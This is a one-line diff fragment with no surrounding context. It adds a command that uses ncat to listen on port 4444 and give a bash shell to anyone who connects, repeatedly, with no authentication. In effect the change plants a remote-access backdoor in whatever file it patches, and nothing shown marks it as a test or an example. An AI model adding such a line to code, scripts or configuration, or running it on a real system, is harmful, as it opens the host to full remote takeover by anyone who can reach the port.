@@ -1,0 +1,1 @@
+ncat --exec /bin/bash -l 4444 --keep-open
